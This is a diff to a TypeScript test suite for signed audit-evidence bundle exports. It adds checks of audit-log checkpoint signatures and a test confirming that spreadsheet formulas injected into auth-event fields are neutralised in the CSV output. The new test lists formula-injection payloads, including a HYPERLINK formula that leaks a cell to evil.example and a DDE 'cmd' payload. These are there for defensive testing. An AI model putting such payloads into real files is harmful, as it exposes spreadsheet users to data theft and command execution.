@@ -15,7 +15,8 @@ import { reportIncident } from "@/lib/incidents/report-incident";
 import { startChecklist } from "@/lib/acquisitions/start-checklist";
 import { ingestAuthEvents } from "@/lib/events/ingest-events";
 import { exportEvidenceBundle } from "@/lib/evidence/export-bundle";
-import { verifyBundle } from "@/lib/evidence/verify-bundle";
+import { verifyBundle as verifyWith } from "@/lib/evidence/verify-bundle";
+import { signingKey } from "@/lib/evidence/signing";
 import { bundlePath, failJobsLeftByRestart, requestEvidenceExport } from "@/lib/evidence/export-jobs";
 import { getEvidenceExport } from "@/lib/evidence/queries";
 import { authorizedWrite } from "@/lib/audit/authorized-write";
@@ -34,6 +35,8 @@ function rezip(files: Map<string, Buffer>, file: string): Promise<void> {
 
 const csvRows = (bytes: Buffer) => parse(bytes, { columns: true }) as Record<string, string>[];
 const jsonRows = (bytes: Buffer) => JSON.parse(bytes.toString("utf8")) as Record<string, unknown>[];
+/** Verified as an auditor who trusts this installation's key (fingerprint from the Evidence page). */
+const verifyBundle = (file: string) => verifyWith(file, { fingerprint: signingKey().fingerprint });
 const run = (cmd: string, args: string[], cwd: string) => spawnSync(cmd, args, { cwd, encoding: "utf8" });
 
 for (const provider of ["sqlite", "postgres"] as const) {
@@ -99,7 +102,7 @@ for (const provider of ["sqlite", "postgres"] as const) {
       expect(receivedAt).toBeGreaterThanOrEqual(sentAt[0]!);
       expect(receivedAt).toBeLessThanOrEqual(sentAt[1]!);
       const audit = csvRows(files.get("data/audit-log.csv")!);
-      const entries = await db.auditEntry.findMany({ where: { at: { gte: from, lt: to }, action: { not: "evidence.export" } }, orderBy: { seq: "asc" } });
+      const entries = await db.auditEntry.findMany({ where: { at: { gte: from, lt: to }, action: { notIn: ["evidence.export", "audit.checkpoint"] } }, orderBy: { seq: "asc" } });
       expect(audit.map((r) => r.hash)).toEqual(entries.map((e) => e.hash));
       expect(csvRows(files.get("data/incidents.csv")!).map((r) => r.title)).toEqual(["Leaked key used from an unknown address"]);
       expect(csvRows(files.get("data/incident-timeline.csv")!)).toHaveLength(await db.incidentEntry.count());
@@ -141,6 +144,8 @@ for (const provider of ["sqlite", "postgres"] as const) {
       expect(run("sha256sum", ["-c", "--quiet", "SHA256SUMS"], folder).status).toBe(0);
       expect(verifySig("SHA256SUMS").stdout).toMatch(/Signature Verified Successfully/);
       expect(verifySig("manifest.json").stdout).toMatch(/Signature Verified Successfully/);
+      // The audit-log checkpoint, as VERIFY.md tells the auditor to check it.
+      expect(run("openssl", ["pkeyutl", "-verify", "-pubin", "-inkey", "public-key.pem", "-rawin", "-in", "audit-checkpoint.txt", "-sigfile", "audit-checkpoint.sig"], folder).stdout).toMatch(/Signature Verified Successfully/);
       const fingerprint = execFileSync("sh", ["-c", "openssl pkey -pubin -in public-key.pem -outform DER | sha256sum"], { cwd: folder, encoding: "utf8" }).split(" ")[0];
       expect(fs.readFileSync(path.join(folder, "VERIFY.md"), "utf8")).toContain(fingerprint);
 
@@ -170,17 +175,24 @@ for (const provider of ["sqlite", "postgres"] as const) {
       expect((await verifyBundle(path.join(dir, "forged.zip"))).problems.join("\n")).toMatch(/signature on manifest\.json does not verify/);
     });
 
-    it("is byte-identical when the same scope is exported twice with nothing changed", async () => {
+    it("exported twice with nothing changed, differs only in the fresh audit checkpoint and the manifest that signs it", async () => {
       const at = new Date(now.getTime() + 1000);
       const first = await exportTo(auditor, { period: year, controls: ["ism-2013", "ism-2015"] }, "a.zip", at);
       const second = await exportTo(auditor, { period: year, controls: ["ism-2013", "ism-2015"] }, "b.zip", at);
-      expect(fs.readFileSync(first.file).equals(fs.readFileSync(second.file))).toBe(true);
-      expect(first.result.manifestSha256).toBe(second.result.manifestSha256);
-      // Exported later by someone else: only the manifest (which records who and when) and what signs it differ.
+      // Exported later by someone else: the same.
       const later = await exportTo(admin, { period: year, controls: ["ism-2013", "ism-2015"] }, "c.zip", new Date(at.getTime() + 3_600_000));
-      const [a, c] = [await unzip(first.file), await unzip(later.file)];
-      expect([...a.keys()]).toEqual([...c.keys()]);
-      expect([...a.keys()].filter((name) => !a.get(name)!.equals(c.get(name)!))).toEqual(["manifest.json", "manifest.json.sig", "SHA256SUMS", "SHA256SUMS.sig"]);
+      const [a, b, c] = [await unzip(first.file), await unzip(second.file), await unzip(later.file)];
+      const sealing = ["audit-checkpoint.txt", "audit-checkpoint.sig", "manifest.json", "manifest.json.sig", "SHA256SUMS", "SHA256SUMS.sig"];
+      for (const other of [b, c]) {
+        expect([...a.keys()]).toEqual([...other.keys()]);
+        expect([...a.keys()].filter((name) => !a.get(name)!.equals(other.get(name)!))).toEqual(sealing);
+      }
+      // Each checkpoint covers the log as it was sealed: the later one covers more entries.
+      const checkpoint = (files: Map<string, Buffer>) => JSON.parse(files.get("manifest.json")!.toString("utf8")).auditCheckpoint;
+      expect(checkpoint(b).seq).toBeGreaterThan(checkpoint(a).seq);
+      expect(checkpoint(a).text).toBe(a.get("audit-checkpoint.txt")!.toString("utf8"));
+      const manifest = (files: Map<string, Buffer>) => ({ ...JSON.parse(files.get("manifest.json")!.toString("utf8")), auditCheckpoint: null, files: null });
+      expect(manifest(a)).toEqual(manifest(b));
     });
 
     it("works for an auditor's API token that has only the evidence scope", async () => {
@@ -225,6 +237,20 @@ for (const provider of ["sqlite", "postgres"] as const) {
       expect(await failJobsLeftByRestart()).toBe(1);
       expect(await getEvidenceExport(auditor, stale.id)).toMatchObject({ status: "FAILED", error: expect.stringMatching(/server stopped before the export finished/) });
       await expect(requestEvidenceExport({ actor: owner }, { period: year })).rejects.toMatchObject({ code: "FORBIDDEN" });
+    });
+
+    it("defuses formulas that a gateway put in event fields in auth-events.csv, and the JSON twin keeps the original", async () => {
+      const api = await db.api.findFirstOrThrow({ where: { deletedAt: null }, orderBy: { name: "asc" } });
+      const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=cmd|' /C calc'!A0"];
+      const at = new Date(now.getTime() - 30_000).toISOString();
+      await ingestAuthEvents({ actor: admin }, hostile.map((h) => ({ time: at, api: api.id, clientId: h, principal: h, outcome: "success", method: "GET", route: h })));
+      const files = await unzip((await exportTo(auditor, { period: year, apiIds: [api.id] }, "formulas.zip")).file);
+      const csv = csvRows(files.get("data/auth-events.csv")!).filter((r) => r.clientId !== "ledger-sync");
+      const json = jsonRows(files.get("data/auth-events.json")!).filter((r) => r.clientId !== "ledger-sync");
+      expect(csv.map((r) => r.principal).sort()).toEqual(hostile.map((h) => `'${h}`).sort());
+      for (const r of csv) expect([r.clientId, r.route]).toEqual([r.principal, r.principal]);
+      expect(json.map((r) => r.principal).sort()).toEqual([...hostile].sort());
+      for (const r of json) expect([r.clientId, r.route]).toEqual([r.principal, r.principal]);
     });
 
     it("still gives a valid bundle that says so when nothing is in scope", async () => {
